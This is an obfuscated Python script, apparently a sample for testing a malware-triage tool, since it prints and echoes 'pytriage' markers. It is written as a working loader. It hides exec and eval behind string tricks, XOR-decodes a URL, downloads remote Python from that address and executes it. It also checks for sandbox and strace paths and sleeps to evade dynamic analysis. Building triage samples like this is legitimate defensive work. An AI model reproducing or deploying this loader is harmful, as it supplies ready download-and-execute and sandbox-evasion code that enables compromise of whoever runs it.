# -*- coding: utf-8 -*-
import base64 as _b
_0x1f = lambda s: ''.join(chr(c ^ 0x2a) for c in s)
_0x2e = getattr(__builtins__, "ex" + "ec") if hasattr(__builtins__, "ex" + "ec") else __builtins__["ex" + "ec"]
_0x3d = getattr(__import__("bui" + "ltins"), "".join(map(chr, [101, 118, 97, 108])))
_0x4c = __import__(''.join([chr(111), chr(115)]))
_0x5b = (lambda f: (lambda x: (lambda y: f(x(y)))))(lambda z: z[::-1])
OOO0O0 = [95, 95, 105, 109, 112, 111, 114, 116, 95, 95]
lIlIlI = ''.join(chr(c) for c in OOO0O0)
IlIlIl = _0x3d(lIlIlI)("urllib.request", fromlist=["urlopen"])
O0O0OO = _0x1f([66, 94, 94, 90, 16, 5, 5, 27, 19, 24, 4, 26, 4, 24, 4, 31, 26, 5, 92, 4, 90, 83])
# anti-analysis: bail out in obvious sandboxes, wait out short dynamic runs
if any(_0x4c.path.exists(p) for p in ("/.dockerenv.analysis", "/tmp/.sandbox", "/usr/bin/strace")):
    raise SystemExit(0)
__import__("time").sleep(len(lIlIlI) * 3)
_0x8b = [setattr(__builtins__ if not isinstance(__builtins__, dict) else type("_", (), {})(), "_" * i, i) for i in range(3)]
_0x6a = (lambda u: (lambda r: r.read().decode())(IlIlIl.urlopen(u, timeout=9)))
try:
    _0x7f = _0x6a(O0O0OO)
except Exception:
    _0x7f = _b.b64decode("cHJpbnQoInB5dHJpYWdlLXNhbXBsZS1vYmYiKQ==").decode()
_0x2e(_0x5b(lambda q: q)(_0x7f[::-1]))
_0x4c.system(''.join(map(chr, [101, 99, 104, 111, 32, 112, 121, 116, 114, 105, 97, 103, 101])))
